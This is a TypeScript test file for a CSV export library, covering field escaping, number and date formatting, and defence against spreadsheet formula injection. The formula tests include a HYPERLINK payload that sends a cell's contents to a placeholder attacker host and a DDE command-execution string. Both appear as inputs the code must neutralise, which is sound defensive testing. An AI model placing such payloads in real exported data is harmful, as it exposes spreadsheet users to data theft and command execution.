import {
  CSV_BOM,
  csvHeader,
  csvRecord,
  csvRow,
  escapeField,
  formatCell,
  isFormulaLike,
  neutralise,
  toCsv,
  type CsvColumn,
} from "@/lib/domain/csv";
import { parseCsv } from "../../support/csv";

describe("RFC 4180 fields", () => {
  it.each([
    ["plain", "plain"],
    ["", ""],
    ["a,b", '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['"', '""""'],
    ["line one\r\nline two", '"line one\r\nline two"'],
    ["bare\nLF", '"bare\nLF"'],
    ["bare\rCR", '"bare\rCR"'],
    ["  spaces kept  ", "  spaces kept  "],
  ])("escapes %j as %j", (value, expected) => {
    expect(escapeField(value)).toBe(expected);
  });

  it("joins records with commas and ends each with CRLF", () => {
    expect(csvRow(["a", "b", ""])).toBe("a,b,\r\n");
    expect(csvRow([])).toBe("\r\n");
  });
});

describe("formula neutralising", () => {
  it.each([
    ["=SUM(A1:A2)", "'=SUM(A1:A2)"],
    ["+1+1", "'+1+1"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\tleading tab", "'\tleading tab"],
    ["\rleading CR", "'\rleading CR"],
    ["\0NUL", "'\0NUL"],
    // leading spaces do not hide a formula: Calc's "Trim spaces" import option removes them
    ["   =1+1", "'   =1+1"],
    ["\n=1+1", "'\n=1+1"],
    ['=HYPERLINK("https://evil.example/?"&B2,"Click")', '\'=HYPERLINK("https://evil.example/?"&B2,"Click")'],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ])("neutralises %j", (value, expected) => {
    expect(isFormulaLike(value)).toBe(true);
    expect(neutralise(value)).toBe(expected);
  });

  it.each([
    "Ada Lovelace",
    "ada@example.com",
    "07700 900123",
    "'already text",
    "a=b",
    "x+y",
    "1-2",
    "name@example",
    "Zoë",
    "£137.50",
    "",
  ])("leaves %j alone", (value) => {
    expect(isFormulaLike(value)).toBe(false);
    expect(neutralise(value)).toBe(value);
  });

  it("neutralises a +44 phone number too (CSV quotes would not stop a spreadsheet evaluating it)", () => {
    expect(formatCell("+44 7700 900123", "text")).toBe("'+44 7700 900123");
    expect(formatCell("07700 900123", "text")).toBe("07700 900123");
  });

  it("neutralises first and quotes second, so a dangerous cell with a comma is still one cell", () => {
    const cell = formatCell('=HYPERLINK("x","y")', "text");
    expect(cell).toBe('"\'=HYPERLINK(""x"",""y"")"');
    expect(parseCsv(`${cell}\r\n`)).toEqual([['\'=HYPERLINK("x","y")']]);
  });
});

describe("cells by kind", () => {
  it("writes money as pounds with two decimals, bare (a number the spreadsheet can add up)", () => {
    expect(formatCell(13750, "money")).toBe("137.50");
    expect(formatCell(0, "money")).toBe("0.00");
    expect(formatCell(5, "money")).toBe("0.05");
    expect(formatCell(123456789, "money")).toBe("1234567.89");
    // a negative amount is ours, not typed by anyone: it stays a number
    expect(formatCell(-500, "money")).toBe("-5.00");
  });

  it("writes integers bare, including digit strings", () => {
    expect(formatCell(42, "integer")).toBe("42");
    expect(formatCell("60", "integer")).toBe("60");
    expect(formatCell(-3, "integer")).toBe("-3");
  });

  it("writes dates and ISO instants bare", () => {
    expect(formatCell("2026-03-01", "date")).toBe("2026-03-01");
    expect(formatCell("2026-03-01T10:15:30.123Z", "date")).toBe("2026-03-01T10:15:30.123Z");
  });

  it("writes a value that does not fit its kind as neutralised text (nothing bypasses the check)", () => {
    expect(formatCell("=1+1", "integer")).toBe("'=1+1");
    expect(formatCell("-1+1", "integer")).toBe("'-1+1");
    expect(formatCell("=2+2", "money")).toBe("'=2+2");
    expect(formatCell("-2026-01-01", "date")).toBe("'-2026-01-01");
    expect(formatCell("2026-01-01,=1", "date")).toBe('"2026-01-01,=1"');
  });

  it("writes null, undefined and empty strings as empty cells", () => {
    expect(formatCell(null, "text")).toBe("");
    expect(formatCell(undefined, "money")).toBe("");
    expect(formatCell("", "date")).toBe("");
  });
});

describe("whole files", () => {
  interface Row {
    id: number;
    name: string;
    amount: number;
  }
  const columns: CsvColumn<Row>[] = [
    { header: "id", kind: "integer", value: (r) => r.id },
    { header: "name", kind: "text", value: (r) => r.name },
    { header: "amount", kind: "money", value: (r) => r.amount },
  ];

  it("starts with a BOM and a header row", () => {
    const csv = toCsv(columns, []);
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(csv).toBe("\uFEFFid,name,amount\r\n");
    expect(Buffer.from(csv, "utf8").subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(csvHeader(columns)).toBe("id,name,amount\r\n");
  });

  it("keeps unicode as UTF-8 (accents, £, non-Latin scripts, emoji)", () => {
    const rows = [
      { id: 1, name: "Zoë Brontë — £50 off", amount: 5000 },
      { id: 2, name: "李小龍", amount: 1 },
      { id: 3, name: "🎩🐇 magic", amount: 0 },
    ];
    const csv = toCsv(columns, rows);
    const bytes = Buffer.from(csv, "utf8");
    expect(bytes.toString("utf8")).toBe(csv);
    expect(bytes.includes(Buffer.from("£", "utf8"))).toBe(true);
    expect(parseCsv(csv.slice(1))).toEqual([
      ["id", "name", "amount"],
      ["1", "Zoë Brontë — £50 off", "50.00"],
      ["2", "李小龍", "0.01"],
      ["3", "🎩🐇 magic", "0.00"],
    ]);
  });

  it("round-trips awkward text through an RFC 4180 reader", () => {
    const names = ['O"Brien, Mary', "two\r\nlines", "lone\nLF", ",", '""', "=evil()", "-5", "@home", "\tx", "\ry"];
    const csv = toCsv(
      columns,
      names.map((name, i) => ({ id: i + 1, name, amount: 100 })),
    );
    const parsed = parseCsv(csv.slice(CSV_BOM.length));
    expect(parsed).toHaveLength(names.length + 1);
    expect(parsed.slice(1).map((r) => r[1])).toEqual(names.map((n) => (isFormulaLike(n) ? `'${n}` : n)));
    for (const record of parsed) expect(record).toHaveLength(3);
  });

  it("writes each record through its columns' kinds", () => {
    expect(csvRecord(columns, { id: 7, name: "+44 7700 900123", amount: 13750 })).toBe("7,'+44 7700 900123,137.50\r\n");
  });
});
